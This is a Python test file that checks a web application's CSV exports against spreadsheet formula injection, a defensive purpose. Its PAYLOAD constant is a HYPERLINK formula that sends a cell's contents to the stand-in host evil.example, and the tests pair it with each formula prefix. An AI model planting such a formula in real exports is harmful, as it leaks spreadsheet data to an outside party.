"""Issue 15 §3: no CSV export hands a spreadsheet a live formula."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

from sqlalchemy import update

from charter.extensions import db
from charter.models import Answer, OrganizationKind, Role
from charter.reports.csv_writer import FORMULA_STARTS, spreadsheet_cell
from charter.services.assessments import submit
from tests.helpers import sign_in
from tests.journey import answer_all, draft_assessment
from tests.signing.helpers import region_officer

PREFIXES = ("=", "+", "-", "@", "\t", "\r")
PAYLOAD = 'HYPERLINK("http://evil.example/?x="&A1,"Cliquez")'
#: Every CSV route of the application, with what the test below fetches for it.
CSV_ENDPOINTS = {
    "public.directory_csv",
    "provider.clients_csv",
    "region.compliance_csv",
    "sme.assessment_export",
    "provider.assessment_export",
    # the import template: column titles only, written by the shared writer all the same
    "region.import_template",
}


def cells(response):
    assert response.status_code == 200, response.status_code
    assert response.mimetype == "text/csv"
    text = response.data.decode("utf-8-sig")
    return [
        cell for row in csv.reader(io.StringIO(text, newline=""), delimiter=";") for cell in row
    ]


def assert_no_formula(found, expected_payloads):
    live = [
        c for c in found if c.startswith(FORMULA_STARTS) and not re.fullmatch(r"[+-]?[\d,.]+", c)
    ]
    assert live == []
    for payload in expected_payloads:
        assert "'" + payload in found, payload


def hostile_answers(app, user):
    """A submitted diagnosis of ``user`` whose comments start with each prefix."""
    assessment_id = draft_assessment(app, user)
    answer_all(app, assessment_id, user.id, "worst")
    with app.app_context():
        ids = db.session.scalars(
            db.select(Answer.id).where(Answer.assessment_id == assessment_id).order_by(Answer.id)
        ).all()
        for number, answer_id in enumerate(ids):
            comment = PREFIXES[number % len(PREFIXES)] + PAYLOAD
            db.session.execute(update(Answer).where(Answer.id == answer_id).values(comment=comment))
        db.session.commit()
        submit(db.session, actor_id=user.id, assessment_id=assessment_id)
    return assessment_id


def test_every_csv_export_neutralises_each_formula_prefix(app, factory):
    officer = region_officer(factory, Role.REGION_ADMIN)
    hostile = [prefix + PAYLOAD for prefix in PREFIXES]
    providers = []
    for name in hostile:
        org = factory.organization(OrganizationKind.PROVIDER, name=name, city=name)
        member = factory.user(Role.PROVIDER_MEMBER, org)
        factory.signature(member, validate_by=officer)
        providers.append(member)
    provider = providers[0]
    smes = []
    for name in hostile:
        sme = factory.user(Role.SME_MEMBER, factory.organization(name=name, city=name))
        factory.client_link(provider.organization_id, sme.organization_id, share=True)
        smes.append(sme)
    diagnosis = hostile_answers(app, smes[0])

    public = app.test_client()
    assert_no_formula(cells(public.get("/annuaire.csv")), hostile)

    region = app.test_client()
    sign_in(app, region, officer)
    assert_no_formula(cells(region.get("/region/signataires.csv")), hostile)
    assert_no_formula(cells(region.get("/region/import/modele.csv")), [])

    own = app.test_client()
    sign_in(app, own, provider)
    assert_no_formula(cells(own.get("/prestataire/clients.csv")), hostile)

    sme = app.test_client()
    sign_in(app, sme, smes[0])
    base = f"/pme/diagnostics/{diagnosis}"
    assert_no_formula(cells(sme.get(f"{base}/reponses.csv")), hostile)
    assert_no_formula(cells(sme.get(f"{base}/plan-action.csv")), [])


def test_the_csv_routes_are_the_ones_tested(app):
    """A new CSV route must join the test above (and so go through the shared writer)."""
    found = {
        rule.endpoint
        for rule in app.url_map.iter_rules()
        if rule.rule.endswith(".csv") or "<fmt>" in rule.rule
    }
    assert found == CSV_ENDPOINTS


def test_only_the_shared_writer_writes_csv():
    package = Path(__file__).parents[2] / "charter"
    writers = sorted(
        str(path.relative_to(package))
        for path in package.rglob("*.py")
        if "csv.writer(" in path.read_text() or "DictWriter(" in path.read_text()
    )
    assert writers == ["reports/csv_writer.py"]


def test_numbers_stay_numbers_and_text_is_neutralised():
    assert spreadsheet_cell("-1,5") == "-1,5"
    assert spreadsheet_cell("+2") == "+2"
    assert spreadsheet_cell("-") == "'-"
    assert spreadsheet_cell("=1+1") == "'=1+1"
    assert spreadsheet_cell("\t=1") == "'\t=1"
    assert spreadsheet_cell(None) == ""
